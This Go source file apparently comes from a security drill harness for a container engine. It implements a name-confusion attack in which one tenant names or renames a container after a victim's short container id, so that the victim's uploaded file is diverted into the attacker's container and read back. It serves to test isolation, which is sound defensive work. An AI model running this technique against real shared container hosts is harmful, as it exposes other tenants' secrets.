package drill

import (
	"context"
	"net/http"
	"strings"

	"github.com/bulkhead-security/bulkhead/drill/ground"
)

// standsIn gives a container of mallory's the short id of victor's as its name. The engine looks for names before it looks for beginnings of
// ids, so that the file which victor puts into what he takes for his own comes to her.
func standsIn(name func(ctx context.Context, w *EngineWorld, short string) (string, error)) attack {
	return onVictim(func(ctx context.Context, w *EngineWorld, victim string) (bool, error) {
		short := victim[:12]
		mine, err := name(ctx, w, short)
		if err != nil || mine == "" {
			return false, err
		}
		archive, err := ground.Tar(ground.File{Name: "secret", Body: []byte(w.secret)})
		if err != nil {
			return false, err
		}
		a, err := w.victor.sendAs(ctx, http.MethodPut, "/containers/"+short+"/archive?path=/tmp", "application/x-tar", archive)
		if err != nil {
			return false, err
		}
		text, err := w.inside(ctx, mine, "/bin/cat", "/tmp/secret")
		return strings.Contains(text, w.secret), errOr(err, w.fair(a))
	})
}

// namedSo makes a container with such a name; no id says that it was refused.
func namedSo(ctx context.Context, w *EngineWorld, short string) (string, error) {
	a, err := w.mallory.send(ctx, http.MethodPost, "/containers/create?name="+short, plain())
	if err != nil || !a.ok() {
		return "", errOr(err, w.fairIf(a))
	}
	_, err = w.must(ctx, w.mallory, "/containers/"+a.id()+"/start", nil)
	return a.id(), err
}

// renamedSo gives it to a container that is there.
func renamedSo(ctx context.Context, w *EngineWorld, short string) (string, error) {
	mine, err := w.own(ctx)
	if err != nil {
		return "", err
	}
	a, err := w.mallory.send(ctx, http.MethodPost, "/containers/"+mine+"/rename?name="+short, nil)
	if err != nil || !a.ok() {
		return "", errOr(err, w.fairIf(a))
	}
	return mine, nil
}
